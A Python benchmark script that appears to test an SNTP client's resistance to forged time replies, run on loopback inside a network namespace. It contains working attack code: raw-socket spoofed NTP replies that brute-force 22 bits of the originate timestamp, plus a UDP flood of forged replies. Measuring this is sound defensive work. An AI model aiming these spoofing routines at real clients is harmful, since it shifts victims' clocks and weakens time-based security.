#!/usr/bin/env python3
"""Attacks on the clock step, measured. Each run asks the loopback test server on port 2123 to
set the clock, without the right to do so (a refused step counts as a step), while
- guessing: the server is silent (its true reply lost), and an attacker who sees the request go
  by, and takes from it only its millisecond, spoofs replies an hour ahead from the server's
  address and port, each with that millisecond as its originate and a different guess of the
  22 bits below it, in turn, for as long as the client waits: every guess that a request with
  the send time to the millisecond and 22 random bits below it would leave;
- flooding: the server answers at once, while two ordinary processes send replies an hour
  ahead from their own ports to port 1024 as fast as they can, and the client runs at nice 10.
Prints, for each, the datagrams sent and the runs that stepped to a forgery and to the truth.
Runs in its own network namespace, without the right to set the clock:
  tests/in_netns.sh bench/forgery.py build/sntp-client tests/ntp_test_server.py
RUNS sets the runs of each attack (default 20).
"""
import os
import socket
import struct
import subprocess
import sys
import time

CLIENT, SERVER = os.path.abspath(sys.argv[1]), os.path.abspath(sys.argv[2])
RUNS, PORT, NTP_EPOCH = int(os.environ.get("RUNS", "20")), 2123, 2208988800


def ntp(seconds, low_bits=0):
    """NTP timestamp of Unix seconds to the millisecond, with the given bits below 2^-10 s."""
    whole = int(seconds)
    fraction = int((seconds - whole) * 1000) * 2**32 // 1000
    return struct.pack("!II", whole + NTP_EPOCH, (fraction & ~0x3FFFFF) | low_bits)


def forged_reply(originate):
    ahead = ntp(time.time() + 3600)
    head = bytes([0x24, 2, 0, 0xEC]) + struct.pack("!II", 0x100, 0x100) + b"\x7f\x00\x00\x01"
    return head + ahead + originate + ahead + ahead


def client(nice=0):
    return subprocess.Popen(
        ["nice", "-n", str(nice), "setpriv", "--bounding-set=-sys_time", "--", "env", "-i",
         "TZ=UTC", f"NTP_SERVER_NAME=127.0.0.1:{PORT}", "STATUS_OF_EXECUTION=ADJUST_TIME",
         CLIENT], stdout=subprocess.PIPE, text=True)


def outcome(report):
    """(stepped to a forgery, stepped to the truth) of one run's report."""
    attempted = "## Error ##: Can NOT Adujust time." in report
    offset = float(report.split("Local Clock Offset = ")[1].split()[0]) if attempted else 0
    return attempted and offset > 1800, attempted and abs(offset) < 1


def request_millisecond():
    """The millisecond at which the next request to the server goes by: all the attacker
    learns of it."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as sniffer:
        sniffer.settimeout(2)
        while struct.unpack("!H", sniffer.recv(128)[22:24])[0] != PORT:
            pass
        return int(time.time() * 1000) / 1000


def guessing():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    sent = forged = true = 0
    for _ in range(RUNS):
        run = client()
        started = time.time()
        head, tail = forged_reply(bytes(8))[:24], forged_reply(bytes(8))[32:]
        header = struct.pack("!HHHH", PORT, 1024, 8 + 48, 0) + head
        base = int.from_bytes(ntp(request_millisecond()), "big")
        for guess in range(1 << 22):  # the bits below the millisecond, in turn
            if guess % 4096 == 0 and (run.poll() is not None or time.time() > started + 5):
                break
            raw.sendto(header + (base | guess).to_bytes(8, "big") + tail, ("127.0.0.1", 0))
            sent += 1
        to_forgery, to_truth = outcome(run.communicate(timeout=10)[0])
        forged, true = forged + to_forgery, true + to_truth
    return f"guessing: {RUNS} runs, {sent} forged replies: {forged} steps to a forgery, {true} " \
           f"to the true reply (the server was silent)"


def flood():
    """Sends forged replies to port 1024 from an ordinary socket until killed."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagram = forged_reply(bytes(8))
    while True:
        sender.sendto(datagram, ("127.0.0.1", 1024))


def flooding():
    floods = [subprocess.Popen([sys.executable, __file__, CLIENT, SERVER, "flood"])
              for _ in range(2)]
    forged = true = 0
    try:
        for _ in range(RUNS):
            to_forgery, to_truth = outcome(client(nice=10).communicate(timeout=10)[0])
            forged, true = forged + to_forgery, true + to_truth
    finally:
        for process in floods:
            process.kill()
            process.wait()
    return f"flooding: {RUNS} runs against two floods: {forged} steps to a forgery, {true} to " \
           f"the true reply"


def main():
    if sys.argv[3:] == ["flood"]:
        flood()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as silent:  # a server that never answers
        silent.bind(("127.0.0.1", PORT))
        print(guessing(), flush=True)
    answering = subprocess.Popen([SERVER, "127.0.0.1", str(PORT)], stdout=subprocess.DEVNULL)
    time.sleep(0.3)
    try:
        print(flooding(), flush=True)
    finally:
        answering.kill()
        answering.wait()


if __name__ == "__main__":
    main()
